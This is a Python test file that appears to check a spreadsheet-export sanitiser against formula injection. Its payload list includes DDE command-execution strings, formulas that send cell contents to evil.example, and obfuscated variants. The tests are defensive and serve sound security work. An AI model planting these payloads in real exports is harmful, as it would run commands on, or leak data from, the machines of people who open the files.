"""Thirty ways to smuggle a formula into a table, none of which a spreadsheet may run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace

import pytest

from annotation.export.cells import safe_cell
from annotation.export.package import write_package
from annotation.export.rows import ClassRow
from annotation.export.verify import verify_archive
from tests.annotation.export.rich import SCHEMA, make_rich_release
from tests.annotation.releases import signed_release

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!E20",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@IMPORTXML",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\r\n=1+1",
    '",=1+1',
    '"=1+1',
    "'=1+1",
    "a;  +1+1",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTDATA("http://evil.example")',
]
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
BLANK = ' \t\r\n\u00a0\ufeff\u200b\x00"'


def starts_formula(text: str) -> bool:
    return text.lstrip(BLANK)[:1] in set(TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", list(",;\t|\n\r"))
def test_no_cell_begins_a_formula_whatever_the_spreadsheet_takes_for_a_separator(payload, separator):
    assert any(starts_formula(part) for part in re.split(r"[,;|\t\r\n\"']", payload))  # it is a payload
    assert not any(starts_formula(part) for part in safe_cell(payload).split(separator))


@pytest.mark.parametrize(
    "text", ["gland", "3.5", "a-b", "x = y", "Gland, type 2", "user@example", "", "0.25 16.0"]
)
def test_what_is_harmless_stays_as_it_is(text):
    assert safe_cell(text) == text


def test_the_tables_for_spreadsheets_hold_no_formula_and_the_plain_ones_every_value(tmp_path):
    plain = make_rich_release(tmp_path)
    classes = (*SCHEMA.classes, *(ClassRow(f"k{n}", text, "finding") for n, text in enumerate(PAYLOADS)))
    schema = replace(SCHEMA, classes=classes)
    members = tuple(
        replace(member, site=PAYLOADS[place % 32], reader=PAYLOADS[0])
        for place, member in enumerate(plain.members)
    )
    release = signed_release(plain, schema=schema, members=members)
    tables = {}
    for key in ("csv", "csv_spreadsheet"):
        target = tmp_path / f"{key}.zip"
        write_package(release, format=key, image_path=tmp_path.joinpath, target=target)
        assert verify_archive(target).compared
        with zipfile.ZipFile(target) as opened:
            for name in opened.namelist():
                if name.endswith(".csv"):
                    tables[name] = list(
                        csv.reader(io.StringIO(opened.read(name).decode("utf-8-sig"), newline=""))
                    )
    for name, rows in tables.items():
        if "spreadsheet" in name:
            assert not any(starts_formula(cell) for row in rows for cell in row)
    titles = [row[1] for row in tables["classes.csv"][4:]]
    # Canonical text is NFC; none of the payloads is changed by it.
    assert titles == PAYLOADS
